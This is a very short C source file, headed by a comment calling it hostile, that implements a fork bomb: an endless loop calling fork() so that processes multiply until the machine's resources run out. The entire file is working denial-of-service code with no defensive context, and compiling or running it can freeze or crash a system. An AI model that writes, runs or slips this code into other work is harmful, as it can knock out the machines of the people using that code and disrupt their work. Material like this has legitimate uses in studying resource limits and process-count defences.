// Hostile: a fork loop that never ends.
#include <unistd.h>
int main()
{
    for (;;)
        fork();
}
